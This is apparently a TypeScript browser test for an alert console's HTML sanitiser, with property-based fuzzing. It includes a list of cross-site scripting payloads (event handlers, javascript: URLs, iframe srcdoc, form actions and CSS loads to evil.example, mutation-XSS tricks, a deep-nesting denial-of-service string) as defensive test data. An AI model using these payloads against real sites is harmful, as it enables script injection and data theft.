/** Whatever HTML a drawing is, the page makes nothing of it but text in elements that can do nothing. */
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { corpus } from '../conformance/corpus.ts';
import { hasBrowser, openBrowser, signIn, startWorld, type World, watched } from './world.ts';

const attacks: readonly string[] = [
  '<img src=x onerror="document.title=1"><svg onload="document.title=1"><script>document.title=1</script></svg>',
  '<a href="javascript:document.title=1" onclick="document.title=1" target=_blank>link</a>',
  '<iframe srcdoc="&lt;script&gt;parent.document.title=1&lt;/script&gt;&lt;a href=https://evil.example&gt;x&lt;/a&gt;"></iframe>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src=https://evil.example/>',
  '<form action="https://evil.example/"><input name=token autofocus><button formaction=https://evil.example/>Sign in</button></form>',
  '<style>* { background: url(https://evil.example/) }</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/);color:red;z-index:99">over all</p>',
  '<p style="background:expression(1);width:-webkit-image-set(url(https://evil.example/) 1x)">x</p>',
  '<p id="app" class="overall bad frame drawing" data-index="0" role="alert">names</p>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
  '<template><script>document.title=1</script></template><dialog open>hello</dialog><video src=https://evil.example/ autoplay>',
  `${'<div>'.repeat(500)}deep${'</div>'.repeat(500)}${'<b>x</b>'.repeat(20_000)}`,
];

const markup = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '<p',
        '<div',
        '<a',
        '<img',
        '<iframe',
        '<svg',
        '<script',
        '<style',
        '<form',
        '</p>',
        '>',
        '"',
        "'",
        '<!--',
        '-->',
      ),
      fc.constantFrom(
        ' style="',
        ' href="javascript:alert(1)"',
        ' onload=alert(1)',
        ' src=//evil.example',
        ' srcdoc="<img src=x>"',
      ),
      fc.constantFrom(...Object.values(corpus)),
    ),
    { maxLength: 25 },
  )
  .map((parts) => parts.join(''));

let world: World;
let browser: Browser;
let page: Page;
let html: readonly string[] = [];

const allowed =
  'p,h4,b,i,u,s,em,strong,small,code,pre,mark,span,div,hr,br,blockquote,table,tbody,thead,tr,th,td,ol,ul,li,dl,dt,dd,details,summary';

/** What is below drawings and may not be: other elements, and attributes that are not class, title or style. */
const found = `[...document.querySelectorAll('.drawing *')].flatMap((each) => [
  ...(each.matches(${JSON.stringify(allowed)}) ? [] : [each.localName]),
  ...[...each.attributes].map(({ name }) => name).filter((name) => !['class', 'title', 'style', 'open'].includes(name)),
  ...[...each.classList].filter((name) => name !== 'mail' && !name.startsWith('drawn-')),
  ...(/url|position|inset|z-index|expression/i.test(each.getAttribute('style') ?? '') ? [each.getAttribute('style')] : []),
])`;

describe.skipIf(!hasBrowser)('a drawing (needs /usr/bin/chromium)', () => {
  beforeAll(async () => {
    world = await startWorld();
    browser = await openBrowser();
    await world.alert('Something');
    page = await signIn(await browser.newContext(), world.url);

    await page.route('**/message', (route) =>
      route.fulfill({ json: { deliveryId: 'd', destination: 'x', at: '2026-11-21T20:00:00.000Z', drawings: html } }),
    );
  });
  afterAll(async () => {
    await browser.close();
    await world.close();
  });

  /** Shows some HTML as the message of an alert. */
  async function show(all: readonly string[]): Promise<void> {
    html = all;
    const drawn = watched(page, world.url);
    await page.goto(`${world.url}/console`);
    await page.locator('.row').first().waitFor();
    await page.keyboard.press('Enter');
    await page.locator('.timeline').waitFor();
    await page.keyboard.press('m');
    await page.locator('.drawing').first().waitFor();
    expect(await page.evaluate(found)).toEqual([]);
    expect(await page.title()).toBe('Tocsin');
    expect(Number(await page.evaluate("document.querySelectorAll('*').length"))).toBeLessThan(45_000);
    expect(drawn).toEqual([]);
  }

  it('is harmless, whatever is known of attacks', async () => {
    await show(attacks);
    expect(await page.locator('.drawing', { hasText: 'over all' }).first().textContent()).toBe('over all');
    await show(Object.values(corpus));
  });

  it('is harmless for any markup', async () => {
    await show(fc.sample(markup, 150));
    await show(fc.sample(fc.string({ maxLength: 300, unit: 'binary' }), 100));
  });
});
